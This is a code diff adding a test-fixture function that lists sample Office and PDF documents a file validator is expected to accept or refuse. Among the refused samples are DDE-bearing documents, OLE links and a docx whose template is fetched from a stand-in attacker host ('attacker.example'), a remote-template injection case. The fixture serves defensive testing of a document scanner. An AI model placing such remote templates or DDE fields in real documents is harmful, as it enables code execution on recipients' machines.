@@ -403,3 +403,64 @@ def xlsx_dde_bytes(*, ole: bool = False) -> bytes:
             + f'<externalLink xmlns="{S_NS}">{link}</externalLink>',
         }
     )
+
+
+def real_producer_set() -> list[tuple[str, bytes, str, list[str]]]:
+    """Every real-producer sample with its expected verdict: (name, bytes, format, error codes).
+
+    The set the README's "Documents we accept" table is tested on; an empty list of codes means
+    accepted. PDFs and compound files come from ``pdf.py`` and ``cfb.py``.
+    """
+    from . import cfb, pdf  # the sibling builders (no import cycle at module load)
+
+    accepted: list[tuple[str, bytes, str]] = [
+        ("libreoffice-docx-with-charts", docx_with_chart(), "docx"),
+        ("libreoffice-xlsx-with-chart", xlsx_with_chart(), "xlsx"),
+        ("docx-ordinary-fields", docx_with_fields(), "docx"),
+        ("docx-local-template", docx_with_template("file:///C:\\Templates\\Normal.dotm"), "docx"),
+        ("docm-without-macros", docm_without_macros(), "docx"),
+        ("word-6.0", cfb.word6_doc_bytes(version="6.0"), "doc"),
+        ("word-95", cfb.word6_doc_bytes(version="95"), "doc"),
+        ("doc-ordinary-fields", cfb.doc_with_fields_bytes(), "doc"),
+        ("xls-linked-workbook", cfb.xls_bytes(linked_workbook=True), "xls"),
+        ("acrobat-incremental-update", pdf.incremental_update_pdf(), "pdf"),
+        ("pdf-dangling-references", pdf.dangling_reference_pdf(), "pdf"),
+        ("scanner-trailing-junk", pdf.trailing_junk_pdf(), "pdf"),
+        ("pdf-broken-xref", pdf.broken_xref_pdf(), "pdf"),
+        ("pdf-empty-password", pdf.empty_password_pdf(), "pdf"),
+    ]
+    refused: list[tuple[str, bytes, str, str]] = [
+        *(
+            (f"docx-dde-{place}", docx_dde_bytes(place), "docx", "active_content")
+            for place in DDE_PLACES
+        ),
+        ("xlsx-dde-link", xlsx_dde_bytes(), "xlsx", "active_content"),
+        ("xlsx-ole-link", xlsx_dde_bytes(ole=True), "xlsx", "active_content"),
+        ("doc-dde", cfb.doc_dde_bytes(), "doc", "active_content"),
+        ("doc-dde-fast-saved", cfb.doc_dde_bytes(fast_saved=True), "doc", "active_content"),
+        ("xls-dde", cfb.xls_bytes(dde=True), "xls", "active_content"),
+        ("word-95-template", cfb.word6_doc_bytes(template=True), "doc", "active_content"),
+        ("word-95-dde", cfb.word6_doc_bytes(dde=True), "doc", "active_content"),
+        (
+            "docx-chart-with-dde-workbook",
+            docx_with_chart(1, workbook=chart_workbook(dde=True)),
+            "docx",
+            "active_content",
+        ),
+        (
+            "docx-remote-template",
+            docx_with_template("https://attacker.example/t.dotm"),
+            "docx",
+            "active_content",
+        ),
+        ("pdf-truncated", pdf.truncated_pdf(), "pdf", "corrupt"),
+        (
+            "pdf-forbids-printing",
+            pdf.empty_password_pdf(allow_print=False),
+            "pdf",
+            "encrypted",
+        ),
+    ]
+    return [(name, data, fmt, []) for name, data, fmt in accepted] + [
+        (name, data, fmt, [code]) for name, data, fmt, code in refused
+    ]
